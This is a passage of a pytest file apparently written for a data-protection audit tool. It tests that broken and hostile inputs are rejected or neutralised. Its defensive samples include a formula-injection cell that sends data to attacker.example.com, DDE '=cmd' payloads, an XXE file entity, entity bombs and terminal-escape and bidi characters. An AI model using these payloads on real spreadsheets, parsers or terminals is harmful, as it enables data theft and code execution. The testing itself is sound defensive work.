"""Hostile and broken input, through the CLI: exact outcome for every file in tests/data/bad/.

Per-record faults: the rest of the file loads, each bad record is a reject row with a
reason, and the run has an ``I-rejected`` integrity finding with the count. Per-file
faults: exit 2, one line on stderr naming the file (and the place when known), no
traceback, no output folder. Nothing outside the input is ever read (XXE), and entity
bombs are refused in bounded memory and time.

Each case copies its bad file into ``tmp_path/in`` and writes a minimal config beside it
that uses the repository's ``audits/policy.yaml`` by absolute path.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import sys
import time
import tracemalloc
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest

from audit_kit import warehouse
from audit_kit.cli.main import main
from audit_kit.config import SourceConfig
from audit_kit.findings import COLUMNS
from audit_kit.loaders import get_loader
from tests._support import DATA, POLICY, write_config

BAD = DATA / "bad"
I_REJECTED = "{rej} of {read} records rejected; see the rejects table for each reason"


@pytest.fixture(autouse=True)
def _key_file(tmp_path_factory, monkeypatch):
    monkeypatch.setenv("AUDIT_KIT_KEY_FILE", str(tmp_path_factory.getbasetemp() / "audit.key"))


@dataclass
class Outcome:
    rc: int
    out: str
    err: str
    out_dir: Path

    def con(self) -> duckdb.DuckDBPyConnection:
        return duckdb.connect(str(self.out_dir / "warehouse.duckdb"), read_only=True)

    def findings(self) -> list[dict[str, str]]:
        with _big_fields(), open(self.out_dir / "findings.csv", newline="", encoding="utf-8") as f:
            return list(csv.DictReader(f))


@contextlib.contextmanager
def _big_fields():
    """csv reads cells longer than its default 128 KiB (a detail naming a huge header)."""
    limit = csv.field_size_limit(2**31 - 1)
    try:
        yield
    finally:
        csv.field_size_limit(limit)


def run_cli(capsys, tmp_path: Path, cfg: Path, *extra: str) -> Outcome:
    out_dir = tmp_path / "out"
    rc = main(["run", str(cfg), "--out", str(out_dir), "--no-report", *extra])
    cap = capsys.readouterr()
    return Outcome(rc, cap.out, cap.err, out_dir)


def run_file(capsys, tmp_path: Path, name: str, kind: str, system: str, *,
             data: bytes | None = None, **keys) -> Outcome:
    inp = tmp_path / "in"
    inp.mkdir(exist_ok=True)
    dest = inp / name
    if data is None:
        shutil.copyfile(BAD / name, dest)
    else:
        dest.write_bytes(data)
    cfg = write_config(tmp_path, [{"name": "s", "kind": kind, "path": f"in/{name}",
                                   "system": system, **keys}])
    return run_cli(capsys, tmp_path, cfg)


def assert_file_fault(o: Outcome, line: str) -> None:
    """Exit 2, exactly one line on stderr, nothing on stdout, no output folder."""
    assert (o.rc, o.out, o.err) == (2, "", f"audit-kit: error: {line}\n")
    assert "Traceback" not in o.err
    assert not o.out_dir.exists()
    leftovers = [p.name for p in o.out_dir.parent.iterdir() if p.name.startswith(".out.")]
    assert leftovers == []


# -- per-record faults ----------------------------------------------------------------------

@dataclass
class RecordCase:
    file: str
    kind: str
    system: str
    format: str
    read: int
    loaded: int
    rejects: list[tuple[str, str]]
    keys: dict = field(default_factory=dict)
    marks: tuple = ()


RECORD_CASES = [
    RecordCase("csv_ragged.csv", "customers_csv", "billing", "csv (utf-8, ';')", 4, 3,
               [("line 4", "6 fields where the header has 5")]),  # line 3 short: padded
    RecordCase("csv_unclosed_quote.csv", "customers_csv", "billing", "csv (utf-8, ';')", 2, 1,
               [("line 3", "unclosed quote; the rest of the file is one field")]),
    RecordCase("csv_mixed_encodings.csv", "customers_csv", "billing",
               "csv (utf-8 with lines in another encoding, ';')", 2, 1,
               [("line 3", "not UTF-8 while the rest of the file is (mixed encodings); "
                           "save the file again as UTF-8")]),
    RecordCase("mbox_nul_binary.mbox", "mbox", "mail", "mbox", 3, 2,
               [("offset 218", "no header fields: not an e-mail message")]),
    RecordCase("vcard_missing_end.vcf", "vcard", "android_backup", "vcard 3.0", 2, 1,
               [("card 2, line 6", "file ends before END:VCARD")]),
    RecordCase("vcard_broken_qp.vcf", "vcard", "android_backup", "vcard 2.1", 2, 1,
               [("card 2, line 9",
                 "broken quoted-printable value (= not followed by two hex digits)")]),
    RecordCase("vcard_unknown_version.vcf", "vcard", "android_backup", "vcard 3.0", 2, 1,
               [("card 2, line 7", "unsupported vCard VERSION (expected 2.1, 3.0 or 4.0)")]),
    RecordCase("postfix_garbage.log", "postfix_log", "mail",
               "postfix syslog (year from source.year)", 5, 2,
               [("line 2", "not a syslog line"), ("line 3", "not a syslog line"),
                ("line 4", "unparseable timestamp")], keys={"year": 2026}),
]


@pytest.mark.parametrize("case", RECORD_CASES, ids=[c.file for c in RECORD_CASES])
def test_record_faults_are_rejects_and_the_rest_loads(capsys, tmp_path, case: RecordCase):
    o = run_file(capsys, tmp_path, case.file, case.kind, case.system, **case.keys)
    assert o.err == ""
    assert o.rc == 1  # the repository policy's statement findings are errors
    with o.con() as con:
        counts = con.execute("SELECT format, records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rejects = con.execute("SELECT file, record_ref, reason FROM rejects "
                              "ORDER BY rowid").fetchall()
        n_records = con.execute("SELECT count(DISTINCT record_ref) FROM records").fetchone()[0]
    rej = len(case.rejects)
    assert counts == [(case.format, case.read, case.loaded, rej)]
    assert rejects == [(f"in/{case.file}", ref, why) for ref, why in case.rejects]
    assert n_records == case.loaded
    integrity = [(f["rule_id"], f["severity"], f["source"], f["detail"])
                 for f in o.findings() if f["category"] == "integrity"]
    assert integrity == [("I-rejected", "warning", "s",
                          I_REJECTED.format(rej=rej, read=case.read))]


def test_truncated_mbox_last_message_is_a_reject(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "mbox_truncated.mbox", "mbox", "mail")
    assert o.err == ""
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rejects = con.execute("SELECT record_ref, reason FROM rejects").fetchall()
    assert counts == [(2, 1, 1)]
    assert [r for r, _ in rejects] == ["offset 217"]
    assert "truncated" in rejects[0][1]


def test_undecodable_rfc2047_words_keep_the_message_and_its_addresses(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "eml_rfc2047_undecodable.eml", "eml", "mail")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rows = con.execute("SELECT email, person_name FROM records ORDER BY email").fetchall()
    assert counts == [(1, 1, 0)]
    # an unknown charset falls back to Latin-1 (right here); bad base64 stays as written
    assert rows[:2] == [("aino.makela@example.com", "Aino Mäkelä"),
                        ("eero.ylonen@example.com", "=?utf-8?B?!!!not base64!!!?=")]
    assert rows[2][0] == "liisa.aalto@example.com"
    assert [f["rule_id"] for f in o.findings() if f["category"] == "integrity"] == []


def test_invalid_utf8_encoded_word_is_not_mojibake(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "eml_rfc2047_undecodable.eml", "eml", "mail")
    with o.con() as con:
        name = con.execute("SELECT person_name FROM records "
                           "WHERE email = 'liisa.aalto@example.com'").fetchone()[0]
    assert name in ("\ufffd\ufffd\ufffd", "=?utf-8?Q?=FF=FE=C3?=")


def _big_header_mbox() -> tuple[bytes, int]:
    first = (b"From - Mon Mar 02 09:00:00 2026\n"
             b"From: Aino Makela <aino.makela@example.com>\n"
             b"To: myynti@oulunkonttori.fi\n"
             b"Date: Mon, 2 Mar 2026 09:00:00 +0200\n"
             b"X-Big: " + b"A" * (10 * 1024 * 1024) + b"\n"
             b"Subject: iso otsake\n\nbody\n\n")
    second = (b"From - Tue Mar 03 10:00:00 2026\n"
              b"From: Eero Ylonen <eero.ylonen@example.com>\n"
              b"To: myynti@oulunkonttori.fi\n"
              b"Date: Tue, 3 Mar 2026 10:00:00 +0200\n\nbody\n")
    return first + second, len(first)


def test_ten_megabyte_header_loads_both_messages(capsys, tmp_path):
    data, second_at = _big_header_mbox()
    t0 = time.perf_counter()
    o = run_file(capsys, tmp_path, "big_header.mbox", "mbox", "mail", data=data)
    assert time.perf_counter() - t0 < 30
    assert o.err == ""
    with o.con() as con:
        counts = con.execute("SELECT records_read, records_loaded, records_rejected "
                             "FROM load_counts").fetchall()
        rows = con.execute("SELECT record_ref, email FROM records ORDER BY rec_id").fetchall()
    assert counts == [(2, 2, 0)]
    assert rows == [("offset 0", "aino.makela@example.com"),
                    (f"offset {second_at}", "eero.ylonen@example.com")]


def _load_direct(path: Path, kind: str, system: str = "mail"):
    """The loader alone, with tracemalloc's peak (Python and expat allocations)."""
    con = warehouse.connect()
    sink = warehouse.SourceSink(con, source="x", kind=kind, system=system)
    tracemalloc.start()
    try:
        try:
            res = get_loader(kind)(SourceConfig(name="x", kind=kind, path=path, system=system),
                                   sink)
        except Exception as exc:  # noqa: BLE001 - returned for the caller's exact assertion
            res = exc
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return res, peak


def test_ten_megabyte_header_memory_is_bounded(tmp_path):
    data, _ = _big_header_mbox()
    p = tmp_path / "big.mbox"
    p.write_bytes(data)
    res, peak = _load_direct(p, "mbox")
    assert (res.records_read, res.records_loaded, res.records_rejected) == (2, 2, 0)
    assert peak < 64 * 1024 * 1024  # measured ~21 MB: two copies of the header, no more


def test_formula_cells_load_as_text_and_are_neutralised_in_findings(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "csv_formula.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(3, 3, 0)]
        raw = con.execute('SELECT record_ref, "Yritys", "Kommentti" FROM src_s '
                          "ORDER BY record_ref").fetchall()
    # the warehouse keeps exactly what was read
    assert raw == [
        ("line 2", "Mäkelän Kone Oy",
         '=HYPERLINK("http://attacker.example.com/?x="&A1;"klikkaa")'),
        ("line 3", "@Ylösen Paja Oy", "-2+3"),
        ("line 4", "Aallon Asu Oy", "@SUM(A1)"),
    ]
    rows = [(f["rule_id"], f["record_ref"], f["email"], f["phone"], f["field"])
            for f in o.findings() if f["category"] != "statement"]
    assert rows == [
        ("R-customer", "line 2", "'=1+2@example.com", "+358401234567", ""),
        # no end date, no invoice, contract or mail: status unknown (warnings)
        ("R-status", "line 3", "'-2+3@example.com", "+358407654321", ""),
        ("R-status", "line 4", "'+sum@example.com", "", ""),
        ("M-field", "line 3", "'-2+3@example.com", "+358407654321", "home_address"),
        ("M-field", "line 4", "'+sum@example.com", "", "home_address"),
    ]


# -- per-file faults ------------------------------------------------------------------------

FILE_CASES = [
    ("csv_empty.csv", "customers_csv", "billing",
     "in/csv_empty.csv: file is empty; export the register again"),
    ("csv_bom_only.csv", "erasure_requests", "workstations",
     "in/csv_bom_only.csv: file is empty; export the register again"),
    ("xlsx_corrupt.xlsx", "marketing_list", "workstations",
     "in/xlsx_corrupt.xlsx: not a readable XLSX workbook; save it again from Excel"),
    ("finvoice_billion_laughs.xml", "finvoice", "billing",
     "in/finvoice_billion_laughs.xml: XML refused as unsafe (EntitiesForbidden); entities and "
     "external references are not allowed"),
    ("finvoice_not_well_formed.xml", "finvoice", "billing",
     "in/finvoice_not_well_formed.xml (line 5, column 38): not well-formed XML (mismatched "
     "tag); fix or re-export the file"),
    ("finvoice_wrong_root.xml", "finvoice", "billing",
     "in/finvoice_wrong_root.xml: no Finvoice element found; is this a Finvoice file?"),
]


@pytest.mark.parametrize("name,kind,system,line", FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_file_faults_stop_the_run_with_one_line(capsys, tmp_path, name, kind, system, line):
    assert_file_fault(run_file(capsys, tmp_path, name, kind, system), line)


def test_header_only_csv_is_an_empty_register(capsys, tmp_path):
    """A register with no rows (e.g. no erasure requests yet) is not an error."""
    o = run_file(capsys, tmp_path, "csv_header_only.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT format, records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [("csv (utf-8, ';')", 0, 0, 0)]


def test_header_only_csv_beside_another_source_loads_nothing(capsys, tmp_path):
    inp = tmp_path / "in"
    inp.mkdir()
    for n in ("csv_header_only.csv", "csv_ragged.csv"):
        shutil.copyfile(BAD / n, inp / n)
    cfg = write_config(tmp_path, [
        {"name": "empty", "kind": "customers_csv", "path": "in/csv_header_only.csv",
         "system": "billing"},
        {"name": "other", "kind": "customers_csv", "path": "in/csv_ragged.csv",
         "system": "billing"}])
    o = run_cli(capsys, tmp_path, cfg)
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT source, records_read, records_loaded, records_rejected "
                           "FROM load_counts ORDER BY source").fetchall() == [
            ("empty", 0, 0, 0), ("other", 4, 3, 1)]


# -- XML: nothing outside the input is read, bombs are bounded ------------------------------

class _OpenSpy:
    """Records every path opened while armed (sys.addaudithook cannot be removed)."""

    armed = False
    opened: list[str] = []

    @classmethod
    def hook(cls, event: str, args: tuple) -> None:
        if cls.armed and event in ("open", "os.open") and args and args[0] is not None:
            cls.opened.append(str(args[0]))


sys.addaudithook(_OpenSpy.hook)


@pytest.fixture
def secret(tmp_path):
    s = tmp_path / "outside" / "secret.txt"
    s.parent.mkdir()
    s.write_text("NOT-TO-BE-READ-7f3a\n", encoding="utf-8")
    return s


def _watch_opens(capsys, tmp_path, name: str, data: bytes) -> tuple[Outcome, list[str]]:
    _OpenSpy.opened = []
    _OpenSpy.armed = True
    try:
        o = run_file(capsys, tmp_path, name, "finvoice", "billing", data=data)
    finally:
        _OpenSpy.armed = False
    return o, list(_OpenSpy.opened)


def test_xxe_entity_is_refused_and_the_target_never_opened(capsys, tmp_path, secret):
    data = (BAD / "finvoice_xxe.xml").read_bytes().replace(b"@SECRET@", str(secret).encode())
    o, opened = _watch_opens(capsys, tmp_path, "finvoice_xxe.xml", data)
    assert_file_fault(o, "in/finvoice_xxe.xml: XML refused as unsafe (EntitiesForbidden); "
                         "entities and external references are not allowed")
    assert str(secret) not in opened
    assert any(p.endswith("in/finvoice_xxe.xml") for p in opened)  # the spy does see opens
    assert "NOT-TO-BE-READ" not in o.out + o.err


def test_external_dtd_is_never_fetched(capsys, tmp_path, secret):
    """A DOCTYPE naming an external DTD is allowed (Finvoice 1.x), but never loaded."""
    data = (BAD / "finvoice_external_dtd.xml").read_bytes().replace(
        b"@SECRET@", str(secret).encode())
    o, opened = _watch_opens(capsys, tmp_path, "finvoice_external_dtd.xml", data)
    assert str(secret) not in opened
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]
        assert con.execute("SELECT person_name FROM records").fetchall() == [("Aino Mäkelä",)]
        text = con.execute("SELECT string_agg(value, '') FROM fields").fetchone()[0]
    assert "NOT-TO-BE-READ" not in text


@pytest.mark.parametrize("name", ["finvoice_billion_laughs.xml", "finvoice_quadratic.xml"])
def test_entity_bombs_are_refused_in_bounded_memory_and_time(tmp_path, name):
    from audit_kit.errors import InputError

    p = tmp_path / name
    if name == "finvoice_quadratic.xml":  # one 50 kB entity referenced 50,000 times
        body = (BAD / "finvoice_xxe.xml").read_text(encoding="utf-8")
        body = body.replace('<!ENTITY xxe SYSTEM "file://@SECRET@">',
                            '<!ENTITY xxe "' + "A" * 50_000 + '">')
        p.write_text(body.replace("&xxe;", "&xxe;" * 50_000), encoding="utf-8")
    else:
        shutil.copyfile(BAD / name, p)
    t0 = time.perf_counter()
    res, peak = _load_direct(p, "finvoice", "billing")
    assert time.perf_counter() - t0 < 10
    assert isinstance(res, InputError)
    assert res.message == ("XML refused as unsafe (EntitiesForbidden); entities and external "
                           "references are not allowed")
    assert peak < 32 * 1024 * 1024 + 2 * p.stat().st_size


# -- config and policy ----------------------------------------------------------------------

def _config_case(tmp_path: Path, name: str) -> Path:
    cfg = tmp_path / name
    cfg.write_text((BAD / name).read_text(encoding="utf-8").replace("@POLICY@", str(POLICY)),
                   encoding="utf-8")
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "csv_ragged.csv")
    return cfg


def test_config_pointing_at_a_missing_file(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_missing_file.yaml"))
    assert_file_fault(o, f"{tmp_path}/no_such_export.csv (source customers): input not found; "
                         "check the source's path")


def test_config_with_an_unknown_kind(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_unknown_kind.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_unknown_kind.yaml (key sources[0].kind): "
                         "unknown source kind 'vcf'; known: customers_csv, service_contracts_csv, "
                         "marketing_list, marketing_optouts, erasure_requests, finvoice, "
                         "retention_holds, vcard, google_contacts_csv, mbox, maildir, eml, "
                         "postfix_log, web_access_log")


def test_config_with_an_impossible_date(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_bad_date.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_bad_date.yaml (key as_of): '2026-02-30' is not "
                         "a date; write it as YYYY-MM-DD")


def test_config_with_an_unquoted_impossible_date(capsys, tmp_path):
    o = run_cli(capsys, tmp_path, _config_case(tmp_path, "config_bad_date_unquoted.yaml"))
    assert_file_fault(o, f"{tmp_path}/config_bad_date_unquoted.yaml: a date-like value is "
                         "not a real date; write dates as YYYY-MM-DD")


def test_bad_as_of_on_the_command_line(capsys, tmp_path):
    cfg = _config_case(tmp_path, "config_missing_file.yaml")
    o = run_cli(capsys, tmp_path, cfg, "--as-of", "31.12.2026")
    assert_file_fault(o, "--as-of '31.12.2026' is not a date; write it as YYYY-MM-DD")


def test_policy_with_a_wrong_key(capsys, tmp_path):
    text = POLICY.read_text(encoding="utf-8")
    needle = "role: customer_contact, counts_from: ended_on, months: 6"
    assert text.count(needle) == 1
    policy = tmp_path / "policy.yaml"
    policy.write_text(text.replace(needle, needle.replace("months", "monthz")), encoding="utf-8")
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "c.csv")
    cfg = write_config(tmp_path, [{"name": "c", "kind": "customers_csv", "path": "c.csv",
                                   "system": "billing"}], policy=policy)
    o = run_cli(capsys, tmp_path, cfg)
    assert_file_fault(o, f"{policy} (key retention.0.monthz): unknown key; see audits/policy.yaml "
                         "for the keys a policy has")


def test_config_that_is_not_yaml(capsys, tmp_path):
    cfg = tmp_path / "broken.yaml"
    cfg.write_text("organisation: [Testi Oy\nsources: []\n", encoding="utf-8")
    assert_file_fault(run_cli(capsys, tmp_path, cfg), f"{cfg} (line 2): not valid YAML")


def test_system_missing_from_the_policy(capsys, tmp_path):
    shutil.copyfile(BAD / "csv_ragged.csv", tmp_path / "c.csv")
    cfg = write_config(tmp_path, [{"name": "c", "kind": "customers_csv", "path": "c.csv",
                                   "system": "dropbox"}])
    o = run_cli(capsys, tmp_path, cfg)
    assert o.rc == 2 and o.out == "" and o.err.count("\n") == 1
    assert o.err.startswith(f"audit-kit: error: {cfg} (source c): system 'dropbox' is not in "
                            "the policy's systems inventory; known: ")


# -- reconciliation is an expectation (I-reconcile) -----------------------------------------

@pytest.mark.parametrize("lie,detail", [
    ({"records_read": 1}, "5 read, 3 loaded, 1 rejected: counts do not reconcile"),
    ({"records_rejected": 1, "records_read": 1},
     "5 read, 3 loaded, 2 rejected: counts do not reconcile"),  # 2 claimed, 1 reject row
], ids=["a-record-lost", "rejects-without-rows"])
def test_a_loader_that_loses_a_record_fails_reconciliation(capsys, tmp_path, monkeypatch,
                                                           lie, detail):
    from audit_kit.loaders import LOADERS

    real = get_loader("customers_csv")

    def lossy(source, sink):
        res = real(source, sink)
        for k, n in lie.items():
            setattr(res, k, getattr(res, k) + n)
        return res

    monkeypatch.setitem(LOADERS, "customers_csv", lossy)
    o = run_file(capsys, tmp_path, "csv_ragged.csv", "customers_csv", "billing")
    assert (o.rc, o.err) == (1, "")
    integrity = [(f["rule_id"], f["severity"], f["source"], f["detail"])
                 for f in o.findings() if f["category"] == "integrity"]
    rej = 1 + lie.get("records_rejected", 0)
    assert integrity == [("I-reconcile", "error", "s", detail),
                         ("I-rejected", "warning", "s", I_REJECTED.format(rej=rej, read=5))]


def test_vcard_photo_uri_is_never_fetched(capsys, tmp_path, secret):
    data = (BAD / "vcard_photo_file_uri.vcf").read_bytes().replace(
        b"@SECRET@", str(secret).encode())
    _OpenSpy.opened = []
    _OpenSpy.armed = True
    try:
        o = run_file(capsys, tmp_path, "vcard_photo_file_uri.vcf", "vcard", "android_backup",
                     data=data)
    finally:
        _OpenSpy.armed = False
    assert str(secret) not in _OpenSpy.opened
    assert (o.rc, o.err) == (1, "")
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]
        text = con.execute("SELECT string_agg(value, '') FROM fields").fetchone()[0]
    assert "NOT-TO-BE-READ" not in text


def test_a_quote_inside_a_header_is_kept_as_a_column_name(capsys, tmp_path):
    o = run_file(capsys, tmp_path, "csv_quote_in_header.csv", "customers_csv", "billing")
    assert o.err == ""
    with o.con() as con:
        assert con.execute('SELECT "Huom""autus" FROM src_s').fetchall() == [("ei",)]
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(1, 1, 0)]


@pytest.mark.parametrize("exc,kind,message", [
    (duckdb.ParserException("LINE 1: Aino Mäkelä"), "RuleError",
     "warehouse query failed (ParserException); rerun with --debug for the query"),
    (duckdb.InvalidInputException("Aino"), "RuleError",
     "warehouse query failed (InvalidInputException); rerun with --debug for the query"),
    (UnicodeDecodeError("utf-8", b"\xff", 0, 1, "bad"), "InputError",
     "text could not be decoded; give the file's encoding in the source entry"),
    (UnicodeEncodeError("utf-8", "caf\udce9", 3, 4, "surrogates not allowed"), "InputError",
     "a file or folder name here is not UTF-8; rename it"),
    (ValueError("Aino Mäkelä"), "AuditKitError",
     "unexpected internal error (ValueError); rerun with --debug and report it"),
])
def test_translate_names_the_type_never_the_message(exc, kind, message):
    from audit_kit.errors import translate

    err = translate(exc, file="in/x.csv")
    assert (type(err).__name__, err.one_line()) == (kind, f"in/x.csv: {message}")


# -- hostile names and cells: the audit finishes, nothing raw comes out --------------------

#: characters never written raw to findings.csv, the report, the manifest or the console
#: (C0 but TAB/LF, DEL, C1, bidi formatting, line/paragraph separators, lone surrogates)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
                 "\u2028\u2029\ud800-\udfff]")


def _hetu_invoice() -> bytes:
    """A Finvoice with a HETU and no InvoiceNumber: its record_ref is the member's name."""
    data = (DATA / "finvoice" / "private_buyer_hetu.xml").read_bytes()
    assert data.count(b"<InvoiceNumber>P-1</InvoiceNumber>") == 1
    return data.replace(b"<InvoiceNumber>P-1</InvoiceNumber>", b"")


def _statement_findings() -> int:
    """The statement's own gaps: findings of every run under the shipped policy."""
    import datetime as dt

    from audit_kit.context import RunContext
    from audit_kit.policy import load_policy
    from audit_kit.rules.statement import statement_checks

    ctx = RunContext(load_policy(POLICY), dt.date(2026, 12, 31))
    return sum(1 for _, _, failed, _, _, _ in statement_checks(ctx) if failed)


STATEMENT = _statement_findings()


def _assert_findings_csv_parses(path: Path, n: int) -> None:
    """Exactly *n* findings of findings.csv's columns for Python's csv, DuckDB and pandas."""
    import pandas as pd

    text = path.read_text(encoding="utf-8")
    assert RAW.findall(text) == [] and "\r" not in text
    with _big_fields(), open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) == n + 1 and {len(r) for r in rows} == {len(COLUMNS)}
    with duckdb.connect() as con:
        got = con.execute("SELECT count(*), count(detail) FROM read_csv(?, all_varchar = true)",
                          [str(path)]).fetchone()
    assert got == (n, n)
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert df.shape == (n, len(COLUMNS)) and (df["detail"] != "").all()


HOSTILE_MEMBERS = {
    "a\rb.xml": "a\\rb.xml",
    "=cmd|' /C calc'!A0.xml": "'=cmd|' /C calc'!A0.xml",
    "\x1b[2J\x1b[31mFAKE.xml": "\\x1b[2J\\x1b[31mFAKE.xml",
    "x\u202eLMX.xml": "x\\u202eLMX.xml",
    "line\nfeed.xml": "line\nfeed.xml",  # LF survives, quoted
    "nul\x00.xml": None,  # zipfile ends a name at a NUL: "nul", not .xml, skipped
}


@pytest.mark.slow  # a whole audit and report
def test_hostile_zip_member_names_finish_the_audit_and_the_report(capsys, tmp_path):
    import zipfile

    inp = tmp_path / "in"
    inp.mkdir()
    with zipfile.ZipFile(inp / "inv.zip", "w") as z:
        for name in HOSTILE_MEMBERS:
            z.writestr(name, _hetu_invoice())
    cfg = write_config(tmp_path, [{"name": "s", "kind": "finvoice", "path": "in/inv.zip",
                                   "system": "billing"}])
    out_dir = tmp_path / "out"
    rc = main(["run", str(cfg), "--out", str(out_dir), "--reveal", "--lang", "en"])
    cap = capsys.readouterr()
    o = Outcome(rc, cap.out, cap.err, out_dir)
    assert (o.rc, o.err) == (1, "")
    assert o.out.splitlines()[0] == f"audit as of 2026-12-31: {5 + STATEMENT} findings"
    assert RAW.findall(o.out) == []
    _assert_findings_csv_parses(out_dir / "findings.csv", 5 + STATEMENT)
    found = [(f["rule_id"], f["source_file"], f["record_ref"], f["field"], f["detail"])
             for f in o.findings() if f["category"] != "statement"]
    # an invoice of 1.2.2026, inside its statutory window: the voucher is kept unchanged
    assert sorted(found) == sorted(
        ("M-voucher", "in/inv.zip", f"{shown}: invoice 1", "hetu",
         "not allowed by §5: BuyerPartyIdentifier, InvoiceFreeText; voucher kept unchanged "
         "until 2032-12-31 (KPL 2:10)")
        for shown in HOSTILE_MEMBERS.values() if shown is not None)
    manifest = json.loads((out_dir / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["sources"][0]["notes"] == ["inv.zip: 1 zip member(s) that are not .xml "
                                               "skipped"]
    assert sorted(manifest["reports"]) == ["report.revealed.html"]  # --reveal: never report.html
    html = (out_dir / "report.revealed.html").read_text(encoding="utf-8")
    assert RAW.findall(html) == []
    zipped = 's: <code class="file">in/inv.zip</code> · '
    assert zipped + "\\x1b[2J\\x1b[31mFAKE.xml: invoice 1" in html
    assert zipped + "x\\u202eLMX.xml: invoice 1" in html


def test_hostile_header_and_values_in_a_register(capsys, tmp_path):
    from audit_kit.report.build import build_report_html

    rows = [
        ["Asiakasnumero", "Yritys", "Yhteyshenkilö", "Sähköposti", "Puhelin",
         "Koti\u202eosoite\x00", "Asiakkuus päättynyt", "Huom\x1b[2J"],
        ["1001", "Mäkelän\rKone Oy", "Aino\x1b]0;pwn\x07 Mäkelä", "aino@example.com",
         "040 123 4567", "Koti\r\nkatu 1", "1.1.2020", "=cmd|' /C calc'!A0"],
        ["1002", "Ylösen Paja Oy", "Eero \u202eYlönen", "=1+2@example.com",
         "+358 40 765 4321", "Kotikatu\u20662", "", " @SUM(A1)"],
    ]
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(rows)
    # the hostile headers classified by columns: (a JSON mapping is YAML too), so their
    # values are per-row findings that carry the hostile e-mail into findings.csv
    hostile = {"Koti\u202eosoite\x00": "other_personal", "Huom\x1b[2J": "other_personal"}
    o = run_file(capsys, tmp_path, "hostile.csv", "customers_csv", "billing",
                 data=buf.getvalue().encode("utf-8"), columns=json.dumps(hostile))
    assert (o.rc, o.err) == (1, "")
    assert RAW.findall(o.out) == []
    with o.con() as con:
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
                           "FROM load_counts").fetchall() == [(2, 2, 0)]
        # the warehouse keeps exactly what was read
        assert con.execute("SELECT label, value FROM fields WHERE field = 'other_personal' "
                           "ORDER BY record_ref, label").fetchall() == [
            ("Huom\x1b[2J", "=cmd|' /C calc'!A0"), ("Koti\u202eosoite\x00", "Koti\r\nkatu 1"),
            ("Huom\x1b[2J", "@SUM(A1)"), ("Koti\u202eosoite\x00", "Kotikatu\u20662")]
    _assert_findings_csv_parses(o.out_dir / "findings.csv", 4 + STATEMENT)  # one R-status
    detail = "not allowed by §5: Huom\\x1b[2J, Koti\\u202eosoite\\x00"
    assert [(f["rule_id"], f["record_ref"], f["email"], f["detail"])
            for f in o.findings() if f["category"] != "statement"] == [
        ("R-customer", "line 2", "aino@example.com",
         "ended 2020-01-01, deadline 2020-07-01 passed (6 months, §6)"),
        ("R-status", "line 5", "'=1+2@example.com",
         "no end date and no invoice, contract or mail: status unknown, record the end date (§6)"),
        ("M-field", "line 2", "aino@example.com", detail),
        ("M-field", "line 5", "'=1+2@example.com", detail),
    ]
    html = build_report_html(o.out_dir, lang="en", reveal=True)
    assert RAW.findall(html) == []
    assert "Aino\\x1b]0;pwn\\x07 Mäkelä · aino@example.com" in html
    assert "Eero \\u202eYlönen · &#x27;=1+2@example.com" in html


@pytest.fixture
def non_utf8_name(tmp_path) -> bytes:
    name = b"caf\xe9.csv"
    try:
        (tmp_path / os.fsdecode(name)).touch()
    except (OSError, UnicodeError):  # a file system that only takes UTF-8 names
        pytest.skip("the file system refuses a name that is not UTF-8")
    (tmp_path / os.fsdecode(name)).unlink()
    return name


def test_a_file_name_that_is_not_utf8_is_read_and_named(capsys, tmp_path, non_utf8_name):
    inp = tmp_path / "in"
    inp.mkdir()
    shutil.copyfile(BAD / "csv_ragged.csv", inp / os.fsdecode(non_utf8_name))
    cfg = write_config(tmp_path, [{"name": "s", "kind": "customers_csv", "path": "in",
                                   "system": "billing"}])
    o = run_cli(capsys, tmp_path, cfg)
    assert o.rc == 1
    assert o.err == ("audit-kit: warning: in/caf\\xe9.csv: the file name is not UTF-8 (shown "
                     "with \\xNN for those bytes); rename the file\n")
    with o.con() as con:
        assert con.execute("SELECT file FROM files").fetchall() == [("in/caf\\xe9.csv",)]
        assert con.execute("SELECT records_read, records_loaded, records_rejected "
